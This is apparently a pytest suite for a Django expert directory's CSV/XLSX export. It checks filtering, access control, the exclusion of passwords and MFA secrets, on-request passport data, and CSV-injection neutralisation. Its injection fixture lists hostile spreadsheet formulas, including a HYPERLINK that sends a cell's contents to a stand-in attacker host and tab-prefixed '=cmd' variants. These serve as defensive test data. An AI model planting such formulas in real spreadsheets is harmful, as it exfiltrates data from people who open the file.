"""Exports of the directory's current result: CSV streamed row by row, XLSX; only the filtered
experts, never passwords or MFA data, passport and birth date only on request, and cells that a
spreadsheet would run as formulas neutralised (CSV injection)."""

import csv
import io
from datetime import date
from io import BytesIO

import openpyxl
import pytest
from allauth.mfa.models import Authenticator
from allauth.mfa.recovery_codes.internal.auth import RecoveryCodes
from allauth.mfa.totp.internal.auth import TOTP
from django.http import StreamingHttpResponse
from django.urls import reverse

from experts.models import MemberAdministration, Region
from experts.services.exports.files import FORMULA_STARTS, neutralise
from experts.services.search import refresh_search_vectors
from tests.conftest import STAFF_TOTP_SECRET, sign_in
from tests.experts.exports.sheets import as_csv_text
from tests.factories import ExpertFactory

pytestmark = pytest.mark.django_db

URL = "/secretariat/experts/export/"
BOM = "\ufeff"


@pytest.fixture
def officer_client(client, officer):
    sign_in(client, officer)
    return client


@pytest.fixture
def people(db):
    """Three experts in Europe (one with MFA set up and passport data), one in Kenya."""
    france = MemberAdministration.objects.get(iso_code="FR")
    europeans = [
        ExpertFactory(
            given_names="Élodie",
            family_name="Lefèvre",
            home_administration=france,
            position="Chef de bureau",
            passport_number="FR9876543",
            passport_expiry=date(2033, 6, 30),
            date_of_birth=date(1975, 2, 14),
            phone="+33 1 40 00 00 00",
            work_email="elodie@douane.example",
        ),
        ExpertFactory(given_names="Jean", family_name="Dupont", home_administration=france),
        ExpertFactory(
            given_names="Anna",
            family_name="Schmidt",
            home_administration=MemberAdministration.objects.get(iso_code="DE"),
        ),
    ]
    TOTP.activate(europeans[0].user, STAFF_TOTP_SECRET)
    RecoveryCodes.activate(europeans[0].user)
    kenyan = ExpertFactory(given_names="Alice", family_name="Mwangi", position="Risk analyst")
    refresh_search_vectors()
    return {"europeans": europeans, "kenyan": kenyan}


def body(response) -> str:
    assert isinstance(response, StreamingHttpResponse)
    return b"".join(response.streaming_content).decode("utf-8")


def csv_table(response) -> list[list[str]]:
    text = body(response)
    assert text.startswith(BOM)
    return list(csv.reader(io.StringIO(text[len(BOM) :])))


def xlsx_table(response) -> list[list[str]]:
    assert isinstance(response, StreamingHttpResponse)
    workbook = openpyxl.load_workbook(BytesIO(b"".join(response.streaming_content)))
    return [[as_csv_text(cell) for cell in row] for row in workbook.active.iter_rows()]


def europe():
    return {"region": str(Region.objects.get(code="EUR").pk)}


def column(table, header) -> list[str]:
    index = table[0].index(header)
    return [row[index] for row in table[1:]]


def test_csv_streams_the_filtered_experts_with_a_header(officer_client, people):
    response = officer_client.get(URL, europe())
    assert response.status_code == 200
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="experts-')
    assert response["Content-Disposition"].endswith('.csv"')
    table = csv_table(response)
    assert table[0][:3] == ["ID", "Family name", "Given names"]
    assert sorted(column(table, "Family name")) == ["Dupont", "Lefèvre", "Schmidt"]
    assert column(table, "Family name") == ["Dupont", "Lefèvre", "Schmidt"]  # by name
    assert len({len(row) for row in table}) == 1  # every row as wide as the header
    row = table[1 + column(table, "Family name").index("Lefèvre")]
    lefevre = dict(zip(table[0], row, strict=True))
    assert lefevre["Given names"] == "Élodie"  # UTF-8 survives
    assert lefevre["Home administration"] == "France"
    assert lefevre["Region"] == "EUR"
    assert lefevre["Login email"] == people["europeans"][0].user.email
    assert lefevre["Work email"] == "elodie@douane.example"
    assert lefevre["Employment status"] == "Serving officer"


def test_csv_follows_the_text_search_and_the_other_filters(officer_client, people):
    table = csv_table(officer_client.get(URL, {"q": "risk analyst"}))
    assert column(table, "Family name") == ["Mwangi"]
    table = csv_table(officer_client.get(URL, {**europe(), "q": "Lefevre"}))
    assert column(table, "Family name") == ["Lefèvre"]
    table = csv_table(officer_client.get(URL, {"q": "zzz-nobody"}))
    assert table == [table[0]]  # the header alone
    # Paging parameters do not narrow an export: it is the whole filtered result.
    table = csv_table(officer_client.get(URL, {**europe(), "size": "10", "after": "garbage"}))
    assert len(table) == 4


def test_csv_without_filters_exports_everyone(officer_client, people):
    assert len(csv_table(officer_client.get(URL))) == 1 + 4


def test_export_with_invalid_filters_goes_back_to_the_page(officer_client, people):
    """An invalid filter must not turn into an export of the whole roster."""
    response = officer_client.get(
        URL, {"available_from": "2031-03-20", "available_to": "2031-03-10", "format": "xlsx"}
    )
    assert response.status_code == 302
    assert response.url.startswith(reverse("secretariat:directory") + "?")
    assert "format" not in response.url
    page = officer_client.get(response.url)
    assert "The end date cannot be before the start date." in page.content.decode()


def test_export_never_contains_passwords_or_mfa_data(officer_client, officer, people):
    lefevre = people["europeans"][0]
    lefevre.user.refresh_from_db()
    codes = RecoveryCodes(
        Authenticator.objects.get(user=lefevre.user, type=Authenticator.Type.RECOVERY_CODES)
    ).get_unused_codes()
    secrets = [lefevre.user.password, officer.password, STAFF_TOTP_SECRET, *codes]
    for sensitive in ("", "1"):
        for text in (
            body(officer_client.get(URL, {"sensitive": sensitive})),
            "\n".join(
                ",".join(row)
                for row in xlsx_table(
                    officer_client.get(URL, {"sensitive": sensitive, "format": "xlsx"})
                )
            ),
        ):
            for secret in secrets:
                assert secret not in text
            for word in ("totp", "password", "recovery", "md5$", "pbkdf2"):
                assert word not in text.lower()


def test_passport_and_birth_date_only_on_request(officer_client, people):
    table = csv_table(officer_client.get(URL, europe()))
    assert "Passport number" not in table[0] and "Date of birth" not in table[0]
    text = body(officer_client.get(URL, europe()))
    assert "FR9876543" not in text and "1975-02-14" not in text and "2033-06-30" not in text

    table = csv_table(officer_client.get(URL, {**europe(), "sensitive": "1"}))
    assert table[0][-3:] == ["Date of birth", "Passport number", "Passport expiry"]
    lefevre = table[1 + column(table, "Family name").index("Lefèvre")]
    assert lefevre[-3:] == ["1975-02-14", "FR9876543", "2033-06-30"]
    dupont = table[1 + column(table, "Family name").index("Dupont")]
    assert dupont[-3:] == ["", "", ""]

    # Anything but "1" is no request.
    table = csv_table(officer_client.get(URL, {**europe(), "sensitive": "yes"}))
    assert "Passport number" not in table[0]
    table = xlsx_table(officer_client.get(URL, {**europe(), "format": "xlsx"}))
    assert "Passport number" not in table[0]
    table = xlsx_table(officer_client.get(URL, {**europe(), "format": "xlsx", "sensitive": "1"}))
    assert "FR9876543" in column(table, "Passport number")


FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1",
    "-2",
    "@SUM(A1)",
    "=1+1",
    "\t=cmd",
    "\r=cmd",
]


@pytest.fixture
def injections(db):
    experts = [
        ExpertFactory(given_names="Eve", family_name=f"Injector{index}", position=formula)
        for index, formula in enumerate(FORMULAS)
    ]
    ExpertFactory(given_names="=Mallory", family_name="@Surname", position="Plain position")
    return experts


def test_csv_neutralises_formulas(officer_client, injections):
    table = csv_table(officer_client.get(URL))
    positions = dict(zip(column(table, "Family name"), column(table, "Position"), strict=True))
    for index, formula in enumerate(FORMULAS):
        assert positions[f"Injector{index}"] == "'" + formula
    assert positions["'@Surname"] == "Plain position"  # ordinary text untouched
    assert "'=Mallory" in column(table, "Given names")
    for row in table[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_xlsx_neutralises_formulas_and_has_no_formula_cells(officer_client, injections):
    """Text cells with the quote prefix: what was typed, with no apostrophe showing."""
    response = officer_client.get(URL, {"format": "xlsx"})
    workbook = openpyxl.load_workbook(BytesIO(b"".join(response.streaming_content)))
    rows = list(workbook.active.iter_rows())
    header = [cell.value for cell in rows[0]]
    family, position = header.index("Family name"), header.index("Position")
    positions = {row[family].value: row[position] for row in rows[1:]}
    for index, formula in enumerate(FORMULAS):
        cell = positions[f"Injector{index}"]
        # XML may read a carriage return back as a line feed.
        assert cell.value.replace("\r", "\n") == formula.replace("\r", "\n")
        assert cell.data_type == "s" and cell.quotePrefix, formula
    assert positions["@Surname"].value == "Plain position"
    assert not positions["@Surname"].quotePrefix  # ordinary text untouched
    for row in rows:
        for cell in row:
            assert cell.data_type != "f", cell.value
            if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS):
                assert cell.quotePrefix, cell.value


def test_xlsx_opens_and_has_the_same_rows_as_the_csv(officer_client, people, injections):
    for filters in ({}, europe(), {"q": "Lefevre"}, {**europe(), "sensitive": "1"}):
        csv_response = officer_client.get(URL, filters)
        xlsx_response = officer_client.get(URL, {**filters, "format": "xlsx"})
        assert xlsx_response.status_code == 200
        assert xlsx_response["Content-Type"] == (
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
        )
        assert "attachment" in xlsx_response["Content-Disposition"]
        assert ".xlsx" in xlsx_response["Content-Disposition"]
        # XML may read a carriage return back as a line feed.
        same = [[cell.replace("\r", "\n") for cell in row] for row in csv_table(csv_response)]
        xlsx = [[cell.replace("\r", "\n") for cell in row] for row in xlsx_table(xlsx_response)]
        assert xlsx == same


def test_xlsx_sheet_is_named(officer_client, people):
    response = officer_client.get(URL, {"format": "xlsx"})
    workbook = openpyxl.load_workbook(BytesIO(b"".join(response.streaming_content)))
    assert workbook.sheetnames == ["Experts"]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (None, ""),
        ("", ""),
        ("Head of audit", "Head of audit"),
        ("=A1", "'=A1"),
        ("+254 20 4999999", "'+254 20 4999999"),
        ("-", "'-"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        (" =A1", " =A1"),  # not at the start: inert
        ("a=b", "a=b"),
        (42, "42"),
    ],
)
def test_neutralise(value, expected):
    assert neutralise(value) == expected


def test_export_is_for_the_secretariat_only(client, alice):
    assert client.get(URL).status_code == 302  # anonymous: to the login page
    client.force_login(alice.user)
    assert client.get(URL).status_code == 404
    assert client.get(URL, {"format": "xlsx"}).status_code == 404


def test_directory_offers_the_export_with_the_current_filters(officer_client, people):
    text = officer_client.get(
        reverse("secretariat:directory"), {**europe(), "q": "dupont", "after": "x"}
    ).content.decode()
    form = text.split(f'action="{URL}"')[1].split("</form>")[0]
    assert f'name="region" value="{europe()["region"]}"' in form
    assert 'name="q" value="dupont"' in form
    assert 'name="after"' not in form
    assert '<option value="csv">CSV</option>' in form and 'value="xlsx"' in form
    assert 'name="sensitive" value="1"' in form


def test_xlsx_survives_control_characters(officer_client):
    """Text pasted from a word processor can carry characters XML cannot hold (e.g. a
    vertical tab): the XLSX drops them instead of failing; the CSV keeps the text as is."""
    ExpertFactory(given_names="Vera", family_name="Tab", position="Head\x0bof\x01unit")
    response = officer_client.get(URL, {"format": "xlsx"})
    assert response.status_code == 200
    assert column(xlsx_table(response), "Position") == ["Headofunit"]
    assert column(csv_table(officer_client.get(URL)), "Position") == ["Head\x0bof\x01unit"]
